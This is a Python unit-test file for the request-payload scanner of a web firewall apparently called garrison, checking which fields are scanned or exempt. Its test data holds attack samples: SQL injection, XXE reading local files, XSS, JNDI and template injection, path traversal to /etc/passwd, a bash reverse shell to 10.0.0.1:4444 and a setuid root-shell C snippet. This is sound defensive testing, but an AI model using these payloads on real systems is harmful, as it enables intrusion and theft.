"""`payload`: what the contract pins down is left alone, everything else is read."""

import json
from collections.abc import Set
from typing import Any
from urllib.parse import quote

import pytest
from tests.unit.controls.guests import Guests
from tests.unit.engine.drive import EVENT_ID, request_head

from garrison.config.load import load_settings
from garrison.controls.payload import CONTROL
from garrison.core.errors import ConfigError
from garrison.core.event import Event
from garrison.engine.exchange import Exchange
from garrison.payload.gather import head_texts
from garrison.payload.scanner import Scanner
from garrison.wiring import build_policy

SQL = "1' or '1'='1"
CONTRACT = {
    "openapi": "3.1.0",
    "info": {"title": "t", "version": "1"},
    "paths": {
        "/notes": {
            "get": {
                "parameters": [
                    {"name": "q", "in": "query", "schema": {"type": "string"}},
                    {"name": "code", "in": "query", "schema": {"type": "string", "enum": [SQL, "a"]}},
                ],
                "responses": {"default": {"description": ""}},
            },
            "post": {
                "requestBody": {
                    "content": {
                        "application/json": {
                            "schema": {
                                "type": "object",
                                "properties": {
                                    "text": {"type": "string"},
                                    "kind": {"type": "string", "enum": [SQL, "a"]},
                                    "tags": {"type": "array", "items": {"type": "string", "enum": [SQL]}},
                                    "size": {"type": "integer"},
                                },
                            }
                        },
                        "application/x-www-form-urlencoded": {
                            "schema": {"type": "object", "properties": {"kind": {"type": "string", "enum": [SQL, "a"]}}}
                        },
                        "application/xml": {"schema": {"type": "object"}},
                    }
                },
                "responses": {"default": {"description": ""}},
            },
        }
    },
}


def decided(
    line: str, body: Any = None, media_type: str = "application/json", coding: str = "", **payload: Any
) -> Event:
    """The event of one request, under a policy where only `payload` enforces."""
    names = ("canonical-form", "media-type", "request-schema", "request-limits")
    controls = {name: {"mode": "monitor"} for name in names} | {"payload": {"mode": "enforce", **payload}}
    settings = load_settings(json.dumps({"version": 1, "mode": "enforce", "contract": {"file": "c"},
                                         "controls": controls}).encode(), "garrison.yaml")  # fmt: skip
    policy = build_policy(settings, read=lambda _: json.dumps(CONTRACT).encode())
    data = body if isinstance(body, bytes) or body is None else json.dumps(body).encode()
    said = {"content-type": media_type if data is not None else "", "content-encoding": coding}
    headers = tuple([(name, value) for name, value in said.items() if value])
    exchange = Exchange(policy, EVENT_ID, 1.0)
    exchange.request(request_head(line, headers, data), data)
    return exchange.close(1.0)


def reasons(event: Event) -> list[tuple[str, str]]:
    return [(reason.id, reason.location) for reason in event.reasons]


def test_free_text_is_read() -> None:
    assert reasons(decided("POST /notes", {"text": SQL})) == [("payload-sql", "body/text")]
    assert reasons(decided("GET /notes?q=1%27%20or%20%271%27=%271")) == [("payload-sql", "query.q")]


def test_what_the_contract_pins_down_is_not() -> None:
    assert reasons(decided("POST /notes", {"kind": SQL, "tags": [SQL], "size": 1, "text": "a"})) == []
    assert reasons(decided("GET /notes?code=1%27%20or%20%271%27=%271")) == []


def test_what_breaks_the_contract_is_read_all_the_same() -> None:
    assert reasons(decided("POST /notes", {"kind": SQL + " ", "size": "x"})) == [("payload-sql", "body/kind")]


def test_what_is_not_declared_is_read() -> None:
    assert reasons(decided("POST /notes", {"other": {"deep": [SQL]}})) == [("payload-sql", "body/other/deep/0")]
    assert reasons(decided("GET /notes?x=1%27%20or%20%271%27=%271")) == [("payload-sql", "query.x")]


def test_keys_and_unreadable_bodies_are_read() -> None:
    assert reasons(decided("POST /notes", {"__proto__": {"a": 1}})) == [("payload-object", "body/__proto__")]
    shared = {"constructor": {"prototype": {"a": 1}}}
    assert reasons(decided("POST /notes", shared)) == [("payload-object", "body/constructor")]
    assert reasons(decided("POST /notes", {"constructor": {"name": "b"}})) == []
    assert [found for found, _ in reasons(decided("POST /notes", b"{\"text\": \"1' or '1'='1\""))] == ["payload-sql"]


def test_xml_is_read_though_no_schema_describes_it() -> None:
    entity = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>'
    assert [found for found, _ in reasons(decided("POST /notes", entity, "application/xml"))] == ["payload-xml"]
    assert reasons(decided("POST /notes", b"<a><b>text</b></a>", "application/xml")) == []
    hidden = [found for found, _ in reasons(decided("POST /notes", entity + b" ", "application/xml; charset=utf-16le"))]
    assert hidden == ["payload-xml"]


FORM = "application/x-www-form-urlencoded"


def test_what_is_not_coded_as_it_says_is_read_as_it_came() -> None:
    assert reasons(decided("POST /notes", {"text": SQL}, coding="gzip")) == [("payload-sql", "body")]
    assert reasons(decided("POST /notes", {"text": "a"}, coding="gzip")) == []


def test_of_what_is_given_again_nothing_is_pinned_down() -> None:
    again = quote("' union select password from users --")
    assert reasons(decided(f"GET /notes?code=a&code={again}")) == [("payload-sql", "query.code")]
    assert reasons(decided("POST /notes", f"kind=a&kind={again}".encode(), FORM)) == [("payload-sql", "body/kind")]


def test_no_number_of_parts_hides_what_stands_behind_them() -> None:
    many = b"a=1&" * 1000
    assert [found for found, _ in reasons(decided("POST /notes", many + b"b=1'+or+'1'='1", FORM))] == ["payload-sql"]


@pytest.mark.parametrize(
    ("name", "found"), [("", ["payload-sql"]), ('; filename=""', ["payload-sql"]), ('; filename="a.jpg"', [])]
)
def test_no_byte_makes_an_opaque_file_of_a_part_that_is_none(name: str, found: list[str]) -> None:
    part = f'--b\r\nContent-Disposition: form-data; name="q"{name}\r\n\r\n{SQL}'.encode() + b"\xff\r\n--b--\r\n"
    event = decided("POST /notes", part, "multipart/form-data; boundary=b")
    assert [each for each, _ in reasons(event)] == found


@pytest.mark.parametrize(
    "settings",
    [{"classes": ["markup"]}, {"unsafe-trusted-places": ["body/text"]}, {"unsafe-trusted-places": ["body/*"]}],
)
def test_settings_leave_out(settings: dict[str, Any]) -> None:
    assert reasons(decided("POST /notes", {"text": SQL}, **settings)) == []


BOTH = "<script>a()</script> 1' or '1'='1"


@pytest.mark.parametrize(
    ("usual", "found"),
    [
        ([{"place": "body/text", "class": "sql"}, {"place": "body/text", "class": "markup"}], []),
        ([{"place": "body/text", "class": "markup"}], ["payload-sql"]),
        ([{"place": "body/text", "class": "sql"}], ["payload-markup"]),
        ([{"place": "body/*", "class": "sql"}, {"place": "body/text", "class": "markup"}], []),
        ([{"place": "body/tex", "class": "markup"}, {"place": "query.text", "class": "markup"}], ["payload-markup"]),
    ],
)
def test_what_is_usual_counts_for_nothing_and_hides_nothing(usual: list[dict[str, Any]], found: list[str]) -> None:
    assert [name for name, _ in reasons(decided("POST /notes", {"text": BOTH}, usual=usual))] == found


def test_signs_are_usual_one_by_one() -> None:
    usual = {"place": "body/text", "class": "markup", "signs": ["active-element"]}
    assert reasons(decided("POST /notes", {"text": "<iframe src='https://a.example/'>"}, usual=[usual])) == []
    event = decided("POST /notes", {"text": "<iframe src='https://a.example/' onload=alert(1)>"}, usual=[usual])
    assert reasons(event) == [("payload-markup", "body/text")]


def test_a_step_may_be_any_number() -> None:
    usual = [{"place": "body/items/*/note", "class": "sql"}]
    assert reasons(decided("POST /notes", {"items": [{"note": "a"}, {"note": SQL}]}, usual=usual)) == []
    event = decided("POST /notes", {"items": [{"name": SQL}, {"note": {"deep": SQL}}]}, usual=usual)
    assert sorted(place for _, place in reasons(event)) == ["body/items/0/name", "body/items/1/note/deep"]


def test_a_class_that_nobody_looks_for_hides_no_other() -> None:
    assert reasons(decided("POST /notes", {"text": BOTH}, classes=["sql"])) == [("payload-sql", "body/text")]
    assert reasons(decided("POST /notes", {"text": BOTH}, classes=["markup"])) == [("payload-markup", "body/text")]


@pytest.mark.parametrize(
    ("entry", "path", "hint"),
    [
        ({"place": "text", "class": "sql"}, "usual[0].place", "body/text"),
        ({"place": "body/text", "class": "markup", "signs": ["active-elemnt"]}, "usual[0].signs[0]", "active-element"),
        ({"place": "body/text", "class": "sql", "signs": ["zzz"]}, "usual[0].signs[0]", "garrison replay --learn"),
    ],
)
def test_what_means_nothing_is_told(entry: dict[str, Any], path: str, hint: str) -> None:
    with pytest.raises(ConfigError) as caught:
        decided("POST /notes", {"text": "a"}, usual=[entry])
    (problem,) = caught.value.problems
    assert problem.path == f"$.controls.payload.{path}"
    assert hint in problem.hint


def test_evidence_shows_no_word_of_anybody() -> None:
    (reason,) = decided("POST /notes", {"text": f"Ada Lovelace {SQL}"}).reasons
    assert "Lovelace" not in reason.detail
    assert "or" in reason.detail


def test_a_field_that_was_harmless_before_hides_nothing_beside_it() -> None:
    names = ("canonical-form", "media-type", "request-schema", "request-limits")
    controls = {name: {"mode": "monitor"} for name in names} | {"payload": {"mode": "enforce"}}
    settings = load_settings(
        json.dumps({"mode": "enforce", "contract": {"file": "c"}, "controls": controls}).encode(), "garrison.yaml"
    )
    policy = build_policy(settings, read=lambda _: json.dumps(CONTRACT).encode())

    def places(agent: str, note: str) -> list[str]:
        exchange = Exchange(policy, EVENT_ID, 1.0)
        exchange.request(request_head("GET /notes", (("user-agent", agent), ("x-note", note))), None)
        return [reason.location for reason in exchange.close(1.0).reasons]

    assert places("app/1", "fine") == []
    assert places("app/1", SQL) == ["header.x-note"]
    assert places("app/1", SQL) == ["header.x-note"]
    assert places(SQL, "fine") == ["header.user-agent"]


def test_a_head_is_judged_once_and_fields_that_vary_each_time() -> None:
    settings = load_settings(
        b'{"mode": "enforce", "contract": {"file": "c"}, "controls": {"payload": {"mode": "enforce"}}}', "garrison.yaml"
    )
    policy = build_policy(settings, read=lambda _: json.dumps(CONTRACT).encode())

    def places(agent: str, number: str) -> list[str]:
        exchange = Exchange(policy, EVENT_ID, 1.0)
        exchange.request(request_head("GET /notes", (("user-agent", agent), ("x-request-id", number))), None)
        return [reason.location for reason in exchange.close(1.0).reasons if reason.control == "payload"]

    assert places("app/2", "5f1c2d3e-0000-4000-8000-000000000000") == []
    (lasting,) = [
        known.lasting for known in policy.fields._known.values() if known.headers.get("user-agent") == "app/2"
    ]
    assert ("x-request-id",) in lasting.values()
    assert places("app/2", "6f1c2d3e-0000-4000-8000-000000000000") == []
    assert places("app/2", SQL) == ["header.x-request-id"]
    assert places(SQL, "7f1c2d3e-0000-4000-8000-000000000000") == ["header.user-agent"]
    assert places(SQL, "8f1c2d3e-0000-4000-8000-000000000000") == ["header.user-agent"], (
        "nor is it remembered as judged"
    )


def test_names_of_requests_are_not_read_where_they_are_numbers() -> None:
    assert head_texts({"x-request-id": "5f1c2d3e-0000-4000-8000-000000000000"}) == []
    assert head_texts({"x-request-id": "1--"}) == [("header.x-request-id", "1--")]


def test_addresses_of_proxies_are_not_read_and_anything_else_is() -> None:
    assert head_texts({"x-forwarded-for": "203.0.113.7, 2001:db8::1"}) == []
    assert head_texts({"x-forwarded-for": "127.0.0.1' or 1=1"}) == [("header.x-forwarded-for", "127.0.0.1' or 1=1")]


def excepting(*classes: str) -> str:
    some = [
        f"{{reason: payload-{each}, principal: 'a:1', expires: '2030-01-01', note: writes about it}}"
        for each in classes
    ]
    return f"controls: {{payload: {{mode: enforce, except: [{', '.join(some)}]}}}}"


COMMAND = "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
HIDING = {
    "sql": SQL,
    "markup": "<script>alert(1)</script>",
    "command": COMMAND,
    "template": "{{7*7}}${jndi:ldap://a.example/b}",
}


def visited(guests: Guests, *texts: str, who: str = "a:1") -> tuple[int, Set[str], Set[str]]:
    """The status that `who` gets who says `texts`, what denied, and what was only observed."""
    visit = guests.begin(who, line="GET /items?tag=" + "&tag=".join(map(quote, texts)))
    status = visit.end()
    assert visit.event
    denied, observed = [{each.id for each in some} for some in (visit.event.reasons, visit.event.observed)]
    return status, denied & PAYLOAD, observed & PAYLOAD


def wrapped(text: str) -> str:
    return "".join(f"\\u{ord(sign):04x}" for sign in text)


PAYLOAD = {spec.id for spec in CONTROL.reasons.specs}


@pytest.mark.parametrize(
    "excepted", [["sql"], ["command"], ["markup"], ["sql", "markup"], ["sql", "markup", "command"]]
)
def test_what_is_excepted_hides_nothing_in_the_same_text(excepted: list[str]) -> None:
    guests = Guests(excepting(*excepted))
    names = {f"payload-{each}" for each in excepted}
    for others in ([], *[[each] for each in HIDING if each not in excepted]):
        for border in (" ", "\n" + "lorem ipsum " * 30):
            text = border.join(HIDING[each] for each in (*excepted, *others))
            status, denied, observed = visited(guests, text)
            assert denied == {f"payload-{each}" for each in others}, text
            assert observed <= names if others else observed == names
            assert (status == 403) is bool(others)


def test_what_is_excepted_hides_nothing_in_a_wrapping() -> None:
    guests = Guests(excepting("sql"))
    assert visited(guests, f"{SQL} {wrapped(COMMAND)}")[1] == {"payload-command"}
    assert visited(guests, f"{SQL} {wrapped('lorem ipsum')}") == (200, set(), {"payload-sql"})


def test_many_that_are_excepted_hide_nothing_behind_them() -> None:
    guests = Guests(excepting("sql", "markup"))
    many = [f"{SQL} {number}" for number in range(20)] + [f"<script>a({number})</script>" for number in range(20)]
    assert visited(guests, *many) == (200, set(), {"payload-sql", "payload-markup"})
    assert visited(guests, *many, COMMAND)[1] == {"payload-command"}


def test_a_crowd_of_what_is_excepted_is_excepted_as_a_crowd_only() -> None:
    crowd = "'or'" * 600
    assert visited(Guests(excepting("sql")), crowd) == (403, {"payload-crowded"}, {"payload-sql"})
    assert visited(Guests(excepting("sql", "crowded")), crowd)[1] == set()


def test_nothing_is_looked_for_twice_that_nobody_excepted(monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[bytes] = []
    scan = Scanner.scan

    def reading(self: Scanner, data: bytes, most: int, *, is_plain: bool | None = None) -> list[tuple[int, int]]:
        read.append(data)
        return scan(self, data, most, is_plain=is_plain)

    monkeypatch.setattr(Scanner, "scan", reading)
    both = HIDING["sql"] + " " + HIDING["markup"]
    counts = []
    for guests in (Guests(excepting()), Guests(excepting("command"))):
        read.clear()
        visited(guests, both)
        counts.append(len(read))
    assert counts[0] == counts[1]


MENTION = "the daemon says in /etc/apache2/apache2.conf that it writes to /proc/self/fd/2 and not to a file"
SESSION = (
    "While the job runs the answer of the newest version is this, as far as I can see:"
    "\n\n$ curl -i localhost:8000/jobs/1\n\nHTTP/1.1 200 OK\nContent-Length: 16\nAllow: GET\n\nCan it say more?"
)
PROGRAM = 'int main() {\n    setresuid(0, 0, 0);\n    system("/bin/bash");\n    return 0;\n}'


@pytest.mark.parametrize("text", [MENTION, SESSION, PROGRAM])
def test_a_document_mentions_what_a_value_would_do(text: str) -> None:
    assert reasons(decided("POST /notes", {"text": text})) == [], "the contract says that a person writes there"
    assert reasons(decided("POST /notes", {"other": text})) != []
    assert reasons(decided("POST /notes", {"text": text, "size": "x"})) != [], "what breaks the contract proves nothing"


@pytest.mark.parametrize(
    "text",
    [
        "/etc/passwd",
        "../../../../etc/passwd is what I want",
        "file:///etc/passwd or so I think",
        f"{MENTION} {SQL}",
        f"{MENTION}; cat /etc/passwd",
        f"{SESSION} <script>alert(1)</script>",
    ],
)
def test_what_leaves_its_place_leaves_it_in_a_document_too(text: str) -> None:
    assert reasons(decided("POST /notes", {"text": text})) != []


def test_a_field_with_a_grammar_of_its_own_is_read_where_it_says_what_that_has_no_use_for() -> None:
    assert head_texts({"accept": "text/html;q=0.9, */*", "content-type": 'a/b; boundary="c d"'}) == []
    accept, media_type = "../../srv/list{{", "%{7*7}.multipart/form-data"
    found = head_texts({"accept": accept, "content-type": media_type})
    assert found == [("header.accept", accept), ("header.content-type", media_type)]


@pytest.mark.parametrize("pair", ["${jndi:ldap://a.example/b}", "${jndi:ldap://a.example/b}=1", "' or '1'='1"])
def test_names_of_cookies_are_read_where_they_say_more_than_a_name_does(pair: str) -> None:
    assert head_texts({"cookie": f"a=b; __Host-c=d; {pair}"})[-1] == ("cookie", pair)
    assert ("cookie", "__Host-c=d") not in head_texts({"cookie": f"a=b; __Host-c=d; {pair}"})
